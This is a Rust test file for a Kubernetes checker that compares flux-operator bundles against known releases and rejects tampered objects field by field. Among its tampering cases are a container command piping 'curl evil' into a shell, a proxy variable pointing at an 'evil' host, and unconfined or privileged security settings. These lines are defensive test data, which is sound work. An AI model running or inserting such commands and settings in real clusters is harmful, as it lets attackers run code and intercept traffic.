//! A bundle against a release: equal but for what the platform may change, and each
//! difference named by object and field. The release here is built from a small CRD of its
//! own; the operator_install tests check the table against the real releases.

use serde_json::{Value, json};

use super::{BundleError, BundleObject, ObjectRef, kind_of, releases::*};

const IMAGE: &str = "ghcr.io/controlplaneio-fluxcd/flux-operator:v0.59.0";

fn crd_spec() -> Value {
    json!({
        "group": "fluxcd.controlplane.io",
        "names": {"kind": "FluxInstance", "plural": "fluxinstances"},
        "scope": "Namespaced",
        "versions": [{
            "name": "v1", "served": true, "storage": true,
            "schema": {"openAPIV3Schema": {"type": "object", "properties": {
                "spec": {"type": "object", "properties": {"distribution": {"type": "object"}}},
            }}},
        }],
    })
}

/// A release whose one CRD is [`crd_spec`].
fn release() -> Vec<Release> {
    let (spec, schemas) = crd_fingerprint(&crd_spec());
    let schemas: Vec<(&'static str, &'static str)> = schemas
        .into_iter()
        .map(|(n, d)| (&*n.leak(), &*d.leak()))
        .collect();
    let crds = vec![Crd {
        name: "fluxinstances.fluxcd.controlplane.io",
        spec: spec.leak(),
        schemas: schemas.leak(),
    }];
    vec![Release {
        version: "v0.59.0",
        crds: crds.leak(),
    }]
}

fn object(manifest: Value) -> BundleObject {
    let text = |p: &str| {
        manifest
            .pointer(p)
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    let kind = kind_of(&text("/apiVersion").unwrap(), &text("/kind").unwrap()).unwrap();
    BundleObject {
        kind,
        reference: ObjectRef {
            api_version: text("/apiVersion").unwrap(),
            kind: text("/kind").unwrap(),
            namespace: text("/metadata/namespace"),
            name: text("/metadata/name").unwrap(),
        },
        manifest,
    }
}

/// The release's objects as a bundle in namespace `cozy-fluxcd` holds them.
fn bundle() -> Vec<Value> {
    let mut deployment = json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "flux-operator", "namespace": "cozy-fluxcd",
                     "labels": {"app.kubernetes.io/version": "v0.59.0"}},
        "spec": deployment_spec(),
    });
    deployment["spec"]["template"]["spec"]["containers"][0]["image"] = json!(IMAGE);
    vec![
        json!({"apiVersion": "v1", "kind": "Namespace",
               "metadata": {"name": "cozy-fluxcd", "labels": {"team": "platform"}}}),
        json!({"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
               "metadata": {"name": "fluxinstances.fluxcd.controlplane.io",
                            "annotations": {"controller-gen.kubebuilder.io/version": "v0.19.0"}},
               "spec": crd_spec()}),
        json!({"apiVersion": "v1", "kind": "ServiceAccount",
               "metadata": {"name": "flux-operator", "namespace": "cozy-fluxcd"}}),
        json!({"apiVersion": "v1", "kind": "Service",
               "metadata": {"name": "flux-operator", "namespace": "cozy-fluxcd"},
               "spec": service_spec()}),
        deployment,
    ]
}

fn check_with(documents: Vec<Value>, pod_fields: &[&str]) -> Result<(), BundleError> {
    let objects: Vec<BundleObject> = documents.into_iter().map(object).collect();
    let fields: Vec<String> = pod_fields.iter().map(|f| (*f).to_owned()).collect();
    check(&objects, "v0.59.0", "sha256:abc", &release(), &fields)
}

/// A change to the bundle's documents.
type Change = Box<dyn FnOnce(&mut Vec<Value>)>;

/// The message of the error `change` to the bundle gives.
fn refused(change: impl FnOnce(&mut Vec<Value>)) -> String {
    let mut documents = bundle();
    change(&mut documents);
    check_with(documents, &[])
        .expect_err("the changed bundle was accepted")
        .to_string()
}

fn pod(documents: &mut [Value]) -> &mut Value {
    &mut documents[4]["spec"]["template"]["spec"]
}

#[test]
fn the_release_with_other_images_metadata_and_allowed_pod_settings_is_accepted() {
    check_with(bundle(), &[]).expect("the release itself");

    let mut documents = bundle();
    let pinned = format!(
        "registry.local:5000/flux-operator:v0.59.0@sha256:{}",
        "a".repeat(64)
    );
    pod(&mut documents)["containers"][0]["image"] = json!(pinned);
    documents[4]["metadata"]["annotations"] = json!({"platform/owner": "cozystack"});
    // Unset is unset, however written.
    pod(&mut documents)["hostNetwork"] = json!(false);
    pod(&mut documents)["containers"][0]["args"] = json!([]);
    check_with(documents, &[]).expect("images, metadata and unset fields");

    let mut cozystack = bundle();
    pod(&mut cozystack)["hostNetwork"] = json!(true);
    pod(&mut cozystack)["tolerations"] = json!([{"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoSchedule"}]);
    pod(&mut cozystack)["containers"][0]["resources"] =
        json!({"requests": {"cpu": "100m", "memory": "350Mi"}});
    check_with(
        cozystack.clone(),
        &["hostNetwork", "tolerations", "resources"],
    )
    .expect("the pod settings the platform allows");
    let message = check_with(cozystack, &["hostNetwork", "tolerations"])
        .unwrap_err()
        .to_string();
    assert!(
        message.starts_with(
            "Deployment cozy-fluxcd/flux-operator spec.template.spec.containers[0].resources.limits \
             is not what flux-operator v0.59.0 ships (the release has {\"cpu\":\"2000m\",\"memory\":\"1Gi\"})"
        ),
        "{message}"
    );
}

#[test]
fn a_manager_that_runs_another_program_is_refused_naming_the_field() {
    let cases: Vec<(Change, &str)> = vec![
        (
            Box::new(|d| pod(d)["containers"][0]["args"] = json!(["--web-server-port=0"])),
            "spec.template.spec.containers[0].args is not what flux-operator v0.59.0 ships (the release has nothing there)",
        ),
        (
            Box::new(|d| {
                pod(d)["containers"][0]["command"] = json!(["/bin/sh", "-c", "curl evil | sh"])
            }),
            "spec.template.spec.containers[0].command is not",
        ),
        (
            Box::new(|d| {
                pod(d)["containers"][0]["env"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "HTTPS_PROXY", "value": "http://evil:3128"}))
            }),
            "spec.template.spec.containers[0].env[1] is not",
        ),
        (
            Box::new(|d| pod(d)["containers"][0]["volumeMounts"][0]["mountPath"] = json!("/etc")),
            "spec.template.spec.containers[0].volumeMounts[0].mountPath is not what flux-operator v0.59.0 ships (the release has \"/tmp\")",
        ),
        (
            Box::new(|d| {
                pod(d)["containers"][0]["securityContext"]["readOnlyRootFilesystem"] = json!(false)
            }),
            "securityContext.readOnlyRootFilesystem is not what flux-operator v0.59.0 ships (the release has true)",
        ),
        (
            Box::new(|d| pod(d)["serviceAccountName"] = json!("default")),
            "spec.template.spec.serviceAccountName is not",
        ),
        (
            Box::new(|d| {
                d[4]["spec"]["template"]["metadata"]["annotations"]["container.apparmor.security.beta.kubernetes.io/manager"] =
                    json!("unconfined")
            }),
            "spec.template.metadata.annotations[\"container.apparmor.security.beta.kubernetes.io/manager\"] is not what flux-operator v0.59.0 ships (the release has nothing there)",
        ),
        (
            Box::new(|d| d[4]["spec"]["replicas"] = json!(3)),
            "Deployment cozy-fluxcd/flux-operator spec.replicas is not what flux-operator v0.59.0 ships (the release has 1)",
        ),
        (
            Box::new(|d| pod(d)["hostNetwork"] = json!(true)),
            "spec.template.spec.hostNetwork is not",
        ),
    ];
    for (change, expected) in cases {
        let message = refused(change);
        assert!(
            message.contains(expected),
            "{message}\nexpected: {expected}"
        );
        assert!(
            message.ends_with(
                "a bundle may differ from its release only in the images and the pod settings \
                 --operator-allow-pod-fields names"
            ),
            "{message}"
        );
    }
}

#[test]
fn crds_services_and_namespaces_beyond_the_release_are_refused() {
    let message = refused(|d| {
        d[1]["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["x-kubernetes-preserve-unknown-fields"] =
            json!(true)
    });
    assert!(
        message.starts_with(
            "CustomResourceDefinition fluxinstances.fluxcd.controlplane.io spec.versions[0].schema \
             is not what flux-operator v0.59.0 ships (the release has schema digest sha256:"
        ),
        "{message}"
    );
    let message = refused(|d| {
        d[1]["spec"]["versions"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "v2", "served": true, "storage": false}))
    });
    assert!(
        message.starts_with(
            "CustomResourceDefinition fluxinstances.fluxcd.controlplane.io spec is not what \
             flux-operator v0.59.0 ships (the release has its versions, names and scope, digest sha256:"
        ),
        "{message}"
    );
    let message = refused(|d| {
        d[1]["metadata"]["name"] = json!("fluxwidgets.fluxcd.controlplane.io");
    });
    assert_eq!(
        message,
        "CustomResourceDefinition fluxwidgets.fluxcd.controlplane.io is not part of flux-operator \
         v0.59.0's release; a bundle may not add it"
    );
    let message = refused(|d| d[3]["spec"]["ports"][1]["targetPort"] = json!(22));
    assert!(
        message.starts_with(
            "Service cozy-fluxcd/flux-operator spec.ports[1].targetPort is not what flux-operator \
             v0.59.0 ships (the release has 8080)"
        ),
        "{message}"
    );
    let message = refused(|d| {
        d.push(json!({"apiVersion": "v1", "kind": "Service",
                      "metadata": {"name": "flux-webhooks", "namespace": "cozy-fluxcd"},
                      "spec": service_spec()}))
    });
    assert!(
        message.starts_with("Service cozy-fluxcd/flux-webhooks is not part of"),
        "{message}"
    );
    let message = refused(|d| d[2]["automountServiceAccountToken"] = json!(true));
    assert!(
        message.starts_with(
            "ServiceAccount cozy-fluxcd/flux-operator automountServiceAccountToken is not"
        ),
        "{message}"
    );
    let message = refused(|d| {
        d[0]["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] = json!("privileged")
    });
    assert!(
        message.starts_with(
            "Namespace cozy-fluxcd metadata.labels[\"pod-security.kubernetes.io/enforce\"] is not \
             what flux-operator v0.59.0 ships (the release has no Pod Security label)"
        ),
        "{message}"
    );
}

#[test]
fn a_version_the_agent_does_not_know_is_refused_naming_the_known_ones() {
    let objects: Vec<BundleObject> = bundle().into_iter().map(object).collect();
    let message = check(&objects, "v0.60.0", "sha256:abc", KNOWN, &[])
        .unwrap_err()
        .to_string();
    assert_eq!(
        message,
        "flux-operator v0.60.0 (bundle sha256:abc) is not a release this agent knows (v0.53.0, \
         v0.58.0, v0.58.1, v0.59.0) and no policy vouches for it: review it with `kubectl \
         tenantflux operator review SOURCE`, vouch for it with `kubectl tenantflux operator \
         vouch SOURCE -f POLICY`, then sign and publish that policy (or use a release the agent \
         knows)"
    );
}

#[test]
fn a_difference_is_found_where_it_is_with_what_the_release_has_there() {
    let expected = json!({"a": {"b": [1, {"c": "x"}]}, "d": false, "e": {"k.io/x": "1"}});
    assert_eq!(first_difference(&expected, &expected, String::new()), None);
    let at = |actual: Value| first_difference(&actual, &expected, String::new());
    assert_eq!(
        at(json!({"a": {"b": [1, {"c": "y"}]}, "e": {"k.io/x": "1"}})),
        Some(("a.b[1].c".to_owned(), Some(&json!("x"))))
    );
    assert_eq!(
        at(json!({"a": {"b": [1]}, "e": {"k.io/x": "1"}})),
        Some(("a.b[1]".to_owned(), Some(&json!({"c": "x"}))))
    );
    assert_eq!(
        at(json!({"a": {"b": [1, {"c": "x"}]}, "e": {"k.io/x": "2"}})),
        Some(("e[\"k.io/x\"]".to_owned(), Some(&json!("1"))))
    );
    assert_eq!(
        at(json!({"a": {"b": [1, {"c": "x"}]}, "d": true, "e": {"k.io/x": "1"}})),
        Some(("d".to_owned(), Some(&json!(false))))
    );
    assert_eq!(describe(Some(&json!("x".repeat(200)))).chars().count(), 120);
    assert_eq!(describe(None), "nothing there");
}

#[test]
fn the_plugin_knows_the_same_releases_as_the_agent() {
    let table: Vec<&str> = KNOWN.iter().map(|r| r.version).collect();
    assert_eq!(table, tenantflux_core::operator::KNOWN_RELEASES);
}
